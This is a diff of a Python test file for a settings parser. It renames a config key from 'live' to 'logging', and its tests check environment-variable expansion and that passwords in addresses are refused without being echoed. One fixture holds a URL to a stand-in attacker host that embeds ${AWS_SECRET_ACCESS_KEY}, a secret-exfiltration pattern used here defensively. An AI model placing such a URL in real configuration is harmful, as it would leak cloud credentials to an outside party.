@@ -384,7 +384,7 @@ def test_environment_variables(
 @pytest.mark.parametrize(
     "tree",
     [
-        {"live": {"mlflow": "http://attacker.example/${AWS_SECRET_ACCESS_KEY}"}},
+        {"logging": {"mlflow": "http://attacker.example/${AWS_SECRET_ACCESS_KEY}"}},
         {"final": {"iterations": "${FEWSHOT_TEST}"}},
         {"detector": {"options": ["A.B", "${FEWSHOT_TEST}"]}},
         {"detector": {"architecture": "${FEWSHOT_NONE:-tiny}"}},
@@ -418,7 +418,7 @@ def test_the_paths_of_data_come_from_the_environment(monkeypatch: pytest.MonkeyP
 )
 def test_passwords_in_addresses_are_refused_and_not_repeated(address: str, words: str) -> None:
     with refused(words) as caught:
-        parse_settings({**PHANTOM, "live": {"mlflow": address}})
+        parse_settings({**PHANTOM, "logging": {"mlflow": address}})
     assert "s3cr3t" not in str(caught.value)
     assert "\n" not in str(caught.value)
 
